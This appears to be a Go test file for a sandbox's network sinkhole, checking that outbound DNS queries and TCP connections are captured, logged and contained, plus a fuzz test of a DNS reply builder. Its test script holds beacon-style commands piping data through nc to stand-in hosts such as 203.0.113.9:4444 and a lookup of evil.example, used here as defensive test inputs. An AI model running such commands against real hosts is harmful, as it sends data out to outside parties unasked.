package sandbox

import (
	"encoding/json"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"testing"

	"golang.org/x/net/dns/dnsmessage"
	"golang.org/x/sys/unix"
)

// calls asks a name's address, and speaks to two that nobody meant to have.
const calls = `
sleep 1
nslookup -type=a evil.example 203.0.113.53 2>&1
printf 'beacon-4711' | nc -w 1 203.0.113.9 4444
printf 'hello' | nc -w 1 198.51.100.1 443
echo done`

// What calls out is answered, logged, and goes nowhere: a capture on the sandbox's
// only interface shows no other host than the sinkhole, and the sinkhole's
// namespace has no other link.
func TestSinkhole(t *testing.T) {
	w := newWorld(t, did)
	o := w.options(t.TempDir(), "/bin/sh", "-c", calls+"; cat /proc/net/route; ls /proc/sys/net/ipv4/conf")
	o.Sinkhole = true
	c := capture(t, w)
	out, r := w.sh(t, o)
	frames := c.stop()
	lines := sunk(t, o.Record)
	has := func(what func(Sunk) bool) {
		t.Helper()
		if !slices.ContainsFunc(lines, what) {
			t.Errorf("not logged: %+v\n%s", lines, out)
		}
	}
	has(func(s Sunk) bool { return s.What == "dns" && s.Name == "evil.example." && s.Type == "TypeA" })
	has(func(s Sunk) bool { return s.What == "tcp" && s.To == "203.0.113.9:4444" })
	has(func(s Sunk) bool {
		return s.What == "data" && string(s.Bytes) == "beacon-4711" && s.To == "203.0.113.9:4444"
	})
	has(func(s Sunk) bool { return s.What == "data" && string(s.Bytes) == "hello" && s.To == "198.51.100.1:443" })
	if !strings.Contains(out, "198.51.100.1") || !strings.Contains(out, "done") || r.Sunk != len(lines) {
		t.Errorf("%d logged, %d read:\n%s", r.Sunk, len(lines), out)
	}
	if !slices.ContainsFunc(frames, func(f []byte) bool { return strings.Contains(string(f), "beacon-4711") }) {
		t.Errorf("the capture of %d frames has not seen it", len(frames))
	}
	if !strings.Contains(c.links, "lo") || !strings.Contains(c.links, sinkLink) || strings.Count(c.links, "\n") != 2 {
		t.Errorf("the sinkhole's links: %q", c.links)
	}
	if c.forward != "0\n" {
		t.Errorf("the sinkhole forwards: %q", c.forward)
	}
	w.gone(t, r.Name)
}

func sunk(t testing.TB, dir string) (lines []Sunk) {
	t.Helper()
	data, err := os.ReadFile(filepath.Join(dir, "sinkhole.jsonl"))
	must(t, err)
	for line := range strings.Lines(string(data)) {
		var s Sunk
		must(t, json.Unmarshal([]byte(line), &s))
		lines = append(lines, s)
	}
	return lines
}

// captured is what a packet socket saw in the sinkhole's namespace.
type captured struct {
	links, forward string
	mu             sync.Mutex
	frames         [][]byte
	fd             int
	done           chan struct{}
}

// capture waits for the helper and listens where it does.
func capture(t testing.TB, w *world) *captured {
	c := &captured{done: make(chan struct{})}
	go func() {
		defer close(c.done)
		ns := c.find(w)
		if ns == nil {
			return
		}
		defer ns.Close()
		if err := within(ns, c.open); err != nil {
			t.Error(err)
			return
		}
		defer unix.Close(c.fd)
		buf := make([]byte, 65536)
		for {
			n, _, err := unix.Recvfrom(c.fd, buf, 0)
			if err == unix.EAGAIN { // a second of silence
				return
			}
			if err == nil {
				c.mu.Lock()
				c.frames = append(c.frames, slices.Clone(buf[:n]))
				c.mu.Unlock()
			}
		}
	}()
	return c
}

// find is the network namespace of the helper that has this order.
func (c *captured) find(w *world) *os.File {
	for range 2000 {
		dirs, _ := filepath.Glob("/proc/[0-9]*")
		for _, dir := range dirs {
			cmd, _ := os.ReadFile(dir + "/cmdline")
			if strings.Contains(string(cmd), Verb+"\x00"+w.work) {
				if links, _ := os.ReadFile(dir + "/net/dev"); strings.Contains(string(links), sinkLink) {
					ns, err := os.Open(dir + "/ns/net")
					if err == nil {
						return ns
					}
				}
			}
		}
	}
	return nil
}

func (c *captured) open() error {
	links, err := os.ReadFile("/proc/thread-self/net/dev")
	if err != nil {
		return err
	}
	for line := range strings.Lines(string(links)) {
		if name, _, ok := strings.Cut(line, ":"); ok {
			c.links += strings.TrimSpace(name) + "\n"
		}
	}
	forward, err := os.ReadFile("/proc/sys/net/ipv4/ip_forward")
	if err != nil {
		return err
	}
	c.forward = string(forward)
	c.fd, err = unix.Socket(unix.AF_PACKET, unix.SOCK_RAW|unix.SOCK_CLOEXEC, 0x0300) // ETH_P_ALL, in network order
	if err != nil {
		return err
	}
	return unix.SetsockoptTimeval(c.fd, unix.SOL_SOCKET, unix.SO_RCVTIMEO, &unix.Timeval{Sec: 3})
}

func (c *captured) stop() [][]byte {
	<-c.done
	return c.frames
}

func FuzzReply(f *testing.F) {
	m := dnsmessage.Message{Header: dnsmessage.Header{ID: 7}, Questions: []dnsmessage.Question{{Name: dnsmessage.MustNewName("evil.example."), Type: dnsmessage.TypeA, Class: dnsmessage.ClassINET}}}
	q, err := m.Pack()
	must(f, err)
	f.Add(q)
	f.Add([]byte{})
	f.Add([]byte("\x00\x07\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\xc0\x0c"))
	f.Fuzz(func(t *testing.T, data []byte) {
		out, _ := reply(data)
		if out == nil {
			return
		}
		var got dnsmessage.Message
		if err := got.Unpack(out); err != nil || !got.Response || len(got.Questions) != 1 || len(got.Answers) > 1 {
			t.Errorf("%+v %v", got, err)
		}
	})
}
